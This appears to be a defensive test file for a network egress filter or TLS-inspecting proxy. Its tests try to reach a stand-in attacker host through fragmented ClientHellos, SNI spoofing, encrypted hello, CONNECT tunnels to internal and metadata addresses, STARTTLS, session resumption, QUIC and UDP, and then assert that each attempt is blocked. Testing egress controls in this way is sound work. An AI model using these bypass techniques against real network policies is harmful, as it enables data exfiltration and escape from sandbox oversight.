"""B1 to B8: TLS, and what pretends to be."""
from attacks import INSPECTED, LIMITED, OPEN, attack, inspected, limited
from world import API, EVIL, PAY

CUTS = {
    "bytes": "lambda data: [data[at:at + 1] for at in range(len(data))]",
    "records": "lambda data: [records_of(data, 7)]",
    "records-and-segments":
        "lambda data: [records_of(data, 5)[at:at + 3] for at in range(0, len(records_of(data, 5)), 3)]",
    "one-byte-records": "lambda data: [records_of(data, 1)]",
}
RECORDS = """
    def records_of(data, size):
        message = data[5:]
        return b"".join(data[:3] + struct.pack("!H", len(message[at:at + size])) + message[at:at + size]
                        for at in range(0, len(message), size))
"""


# B1: a ClientHello in pieces ----------------------------------------------------------------------
@attack("B1", each=CUTS)
def hello_in_pieces_to_a_denied_name(field, cut):
    field.policy(LIMITED)
    field.run(RECORDS + f"""
    got["evil"] = in_pieces(EVIL, 443, "evil.pirate.net", {cut})
    """)
    field.unreached(EVIL)


@attack("B1", each=CUTS)
def hello_in_pieces_with_the_allowed_name_at_evil_address(field, cut):
    field.policy(LIMITED)
    got = field.run(RECORDS + f"""
    got["evil"] = in_pieces(EVIL, 443, "api.harbour.com", {cut})
    """)
    field.unreached(EVIL)
    assert got


@attack("B1")
def hello_that_never_ends(field):
    """Trickled, cut off, and too long: each is given up, none is passed on unread."""
    field.policy(LIMITED)
    field.run("""
        whole = hello(server_name(b"evil.pirate.net"))
        socks = []
        for piece in (whole[:1], whole[:5], whole[:40], whole[:-1]):
            sock = connect(EVIL, 443)
            sock.sendall(piece)
            socks.append(sock)
        # A record that announces more than there may be, and a message of 16 MB.
        got["long"] = tcp(EVIL, 443, b"\\x16\\x03\\x01\\xff\\xff" + b"A" * 70000, 1)
        got["huge"] = tcp(EVIL, 443, b"\\x16\\x03\\x01\\x40\\0\\x01\\xff\\xff\\xff" + b"A" * 200000, 1)
        time.sleep(2)
        for sock in socks:
            sock.close()
    """)
    field.unreached(EVIL)


# B2: encrypted hello ------------------------------------------------------------------------------
@attack("B2", each={"outer-allowed": b"api.harbour.com", "outer-public": b"cloudflare-ech.com"})
def encrypted_hello(field, outer):
    field.policy(LIMITED)
    field.run("""
        ech = extension(0xfe0d, b"\\0" + b"\\0\\x01\\0\\x01\\x07\\0\\x20" + os.urandom(32) + b"\\0\\x90" + os.urandom(144))
        got["evil"] = tcp(EVIL, 443, hello(server_name(OUTER), ech))
        got["api"] = tcp(API, 443, hello(server_name(OUTER), ech))
    """, OUTER=outer)
    field.unreached(EVIL)


@attack("B2")
def encrypted_hello_where_tls_is_opened(field):
    """The outer name is the name; the inner one stays unread and goes nowhere."""
    field.policy(INSPECTED)
    field.run("""
        ech = extension(0xfe0d, b"\\0" + b"\\0\\x01\\0\\x01\\x07\\0\\x20" + os.urandom(32) + b"\\0\\x90" + os.urandom(144))
        got["api"] = tcp(API, 443, hello(server_name(b"api.harbour.com"), ech))
    """)
    sight = field.seen()
    assert not sight.strangers(API), sight.strangers(API)[:3]
    assert not [each for each in sight.connections if b"\xfe\x0d" in each["raw"]]


# B3: protocols at other ports ---------------------------------------------------------------------
@attack("B3", each={"8443": 8443, "22": 22, "25": 25, "65535": 65535})
def tls_at_another_port(field, port):
    field.policy(LIMITED)
    field.run('got["evil"] = https(EVIL, "evil.pirate.net", b"GET / HTTP/1.0\\r\\n\\r\\n", PORT)',
              PORT=port)
    field.unreached(EVIL)


@attack("B3")
def plain_http_at_443(field):
    field.policy(LIMITED)
    field.run("""
        got["evil"] = tcp(EVIL, 443, b"GET / HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n\\r\\n")
        got["prior"] = tcp(EVIL, 443, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\x04\\0\\0\\0\\0\\0")
    """)
    field.unreached(EVIL)


@attack("B3", each={"443": "evil.pirate.net:443", "22": "evil.pirate.net:22",
                    "inside": "10.1.2.3:80", "metadata": "169.254.169.254:80",
                    "itself": "api.harbour.com:443"})
def connect_inside_tls(field, target):
    field.policy(INSPECTED)
    field.run("""
        try:
            sock = tls(API, 443, "api.harbour.com", ["http/1.1"])
            sock.sendall(b"CONNECT " + TARGET.encode() + b" HTTP/1.1\\r\\nHost: " + TARGET.encode() + b"\\r\\n\\r\\n")
            got["answer"] = sock.recv(4096).decode("latin-1")
            sock.sendall(hello(server_name(b"evil.pirate.net")))
            got["more"] = read(sock, 1)
        except OSError as error:
            got["error"] = str(error)
    """, TARGET=target)
    sight = field.no_request(method="CONNECT")
    assert not sight.strangers(API), sight.strangers(API)[:3]
    assert not sight.heard(b"evil.pirate.net")


@attack("B3")
def connect_in_plain_http(field):
    """The way out is no open proxy."""
    field.policy(LIMITED)
    field.run("""
        for port in (80, 3128, 8080):
            got[port] = tcp(API, port, b"CONNECT evil.pirate.net:443 HTTP/1.1\\r\\nHost: evil.pirate.net:443\\r\\n\\r\\n", 1)
            got[f"{port} absolute"] = tcp(API, port, b"GET http://evil.pirate.net/ HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n\\r\\n", 1)
    """)
    field.unreached(EVIL)


@attack("B3", each={"smtp": (25, b"EHLO x\r\nSTARTTLS\r\n"), "imap": (143, b"a STARTTLS\r\n"),
                    "ftp": (21, b"AUTH TLS\r\n"), "postgres": (5432, b"\0\0\0\x08\x04\xd2\x16\x2f"),
                    "xmpp": (5222, b"<stream:stream to='evil.pirate.net'><starttls/>")})
def starttls(field, case):
    port, first = case
    field.policy(LIMITED)
    field.run("""
        got["evil"] = tcp(EVIL, PORT, FIRST, 1)
        got["then"] = tcp(EVIL, PORT, FIRST + hello(server_name(b"api.harbour.com")), 1)
    """, PORT=port, FIRST=first)
    field.unreached(EVIL)


# B4: sessions -------------------------------------------------------------------------------------
@attack("B4", each={"inspected": INSPECTED,
                    "both-inspected": inspected("api.harbour.com", "pay.harbour.com")})
def resumed_session_with_another_name(field, policy):
    field.policy(policy)
    field.run("""
        made = context(["http/1.1"])
        first = made.wrap_socket(connect(API, 443), server_hostname="api.harbour.com")
        first.sendall(b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n")
        read(first, 2)
        session = first.session
        got["session"] = session is not None
        for name, address in (("evil.pirate.net", EVIL), ("pay.harbour.com", PAY),
                              ("evil.pirate.net", API)):
            try:
                second = made.wrap_socket(connect(address, 443), server_hostname=name, session=session)
                second.sendall(b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n")
                got[f"{name} {address}"] = read(second, 1)
            except (OSError, ValueError) as error:
                got[f"{name} {address}"] = str(error)
    """)
    sight = field.seen()
    assert not sight.to(EVIL)
    assert not [value for value in sight.headers("host", PAY) if value != "pay.harbour.com"]


@attack("B4")
def early_data(field):
    """0-RTT: nothing is sent on before the handshake is done, nothing twice."""
    field.policy(INSPECTED)
    done = field.sandbox.run(
        "cd /tmp; printf 'GET /once HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n' > early; "
        f"timeout 5 openssl s_client -quiet -connect {API}:443 -servername api.harbour.com "
        "-sess_out session -ign_eof < early >/dev/null 2>&1; "
        f"timeout 5 openssl s_client -connect {API}:443 -servername api.harbour.com -sess_in session"
        " -early_data early </dev/null 2>&1 | grep -i 'early data' || true", user="root")
    assert "was accepted" not in done["stdout"], done["stdout"]


# B5: one connection, two names --------------------------------------------------------------------
@attack("B5")
def coalesced_connection(field):
    field.policy(inspected("api.harbour.com", "pay.harbour.com"))
    got = field.run("""
        h = H2(API, "api.harbour.com")
        h.get(1, "api.harbour.com")
        h.get(3, "pay.harbour.com")
        h.get(5, "evil.pirate.net")
        got["answers"] = h.collect(3, 3)
    """)
    sight = field.seen()
    assert sight.headers("host") in (["api.harbour.com"], []), sight.headers("host")
    assert got["answers"].get("3", {}).get("status") != "200", got


# B6: what is not TLS ------------------------------------------------------------------------------
@attack("B6", each={"api": API, "evil": EVIL, "v6": "2a00:6600::66"})
def quic(field, address):
    field.policy(OPEN)
    got = field.run("""
        initial = b"\\xc3\\0\\0\\0\\x01\\x08" + os.urandom(8) + b"\\x08" + os.urandom(8) + b"\\0\\x44\\x9e" + os.urandom(1176)
        started = time.monotonic()
        with socket.socket(family(ADDRESS), socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.connect((ADDRESS, 443))
            try:
                sock.send(initial)
                got["answer"] = sock.recv(2000).decode("latin-1")
            except ConnectionRefusedError:
                got["answer"] = "refused"
            except OSError as error:
                got["answer"] = str(error)
    """, ADDRESS=address)
    field.unreached(address)
    assert got["answer"] == "refused", "QUIC clients must learn it at once"


@attack("B6", each={"stun": (3478, b"\0\x01\0\0\x21\x12\xa4\x42" + b"x" * 12),
                    "wireguard": (51820, b"\x01\0\0\0" + b"x" * 144),
                    "openvpn": (1194, b"\x38" + b"x" * 13), "ntp": (123, b"\x1b" + b"\0" * 47),
                    "teredo": (3544, b"x" * 40), "dtls": (5684, b"\x16\xfe\xfd" + b"x" * 60)})
def datagrams(field, case):
    port, data = case
    field.policy(LIMITED)
    field.run("""
        for address in (EVIL, PAY, "2a00:6600::66"):
            got[address] = udp(address, PORT, DATA, 0.5)
    """, PORT=port, DATA=data)
    sight = field.seen()
    assert not [each for each in sight.packets if each[0] == 17 and each[2] != 53], sight.packets


@attack("B6", each={"ssh": b"SSH-2.0-OpenSSH_9.2\r\n", "openvpn": b"\0\x0e\x38" + b"x" * 13,
                    "socks5": b"\x05\x01\0\x05\x01\0\x03\x0fevil.pirate.net\x01\xbb",
                    "socks4": b"\x04\x01\x01\xbb\x06\x06\x06\x06\0",
                    "redis": b"*1\r\n$4\r\nPING\r\n", "nothing": b"", "noise": bytes(range(256))})
def other_protocol_at_443(field, first):
    """With a rule for TLS only, nothing else may use the port, not even to the allowed host."""
    field.policy({"mode": "block-all", "egress": {"trafficRules": [
        {"action": "allow", "domains": ["api.harbour.com"], "appProtocols": ["tls"],
         "ports": [{"port": 443}]}]}})
    field.run("""
        addresses("api.harbour.com")
        got["api"] = tcp(API, 443, FIRST, 2)
        got["evil"] = tcp(EVIL, 443, FIRST, 2)
    """, FIRST=first)
    sight = field.seen()
    assert not sight.to(EVIL)
    assert not [each for each in sight.connections if each["raw"]], sight.connections


@attack("B6")
def tls_with_something_else_behind(field):
    """Opened TLS that turns out not to be HTTP is not relayed."""
    field.policy(INSPECTED)
    field.run("""
        for first in (b"SSH-2.0-x\\r\\n", b"\\x05\\x01\\0", b"\\0" * 64, hello(server_name(b"evil.pirate.net"))):
            got[first.hex()[:10]] = https(API, "api.harbour.com", first, 443, 1)
    """)
    sight = field.seen()
    assert not [each for each in sight.connections if each["raw"] and not each["requests"]]
    assert not sight.heard(b"SSH-2.0")


# B7: bad upstream certificates --------------------------------------------------------------------
@attack("B7", each={"expired": "expired.harbour.com", "stranger": "stranger.harbour.com",
                    "wrong": "wrong.harbour.com"})
def upstream_that_cannot_prove_itself(field, name):
    field.policy(inspected(name))
    got = field.run("""
        got["answer"] = to(NAME, b"POST /hello HTTP/1.1\\r\\nHost: " + NAME.encode() +
                           b"\\r\\nContent-Length: 7\\r\\nConnection: close\\r\\n\\r\\nprivate", 4)
    """, NAME=name)
    sight = field.seen()
    assert not sight.requests() and not sight.heard("private"), sight.connections
    assert "hello from" not in got["answer"]["data"]


# B8: client certificates --------------------------------------------------------------------------
@attack("B8")
def upstream_that_asks_for_a_certificate(field):
    """None is bound: none is shown, and nothing is said without."""
    field.policy(inspected("asks.harbour.com"))
    field.run("""
        got["answer"] = to("asks.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: asks.harbour.com\\r\\n"
                           b"Connection: close\\r\\n\\r\\n", 4)
    """)
    sight = field.seen()
    assert not [each for each in sight.connections if each["client_certificate"]]
    assert not sight.requests()


@attack("B1")
def allowed_name_then_raw_bytes(field):
    """A hello for the allowed name does not turn the connection into a way to somewhere else."""
    field.policy(limited("api.harbour.com"))
    field.run("""
        got["a"] = tcp(EVIL, 443, hello(server_name(b"api.harbour.com")) + b"GET / HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n\\r\\n")
    """)
    field.unreached(EVIL)
    assert not field.seen().requests(PAY)
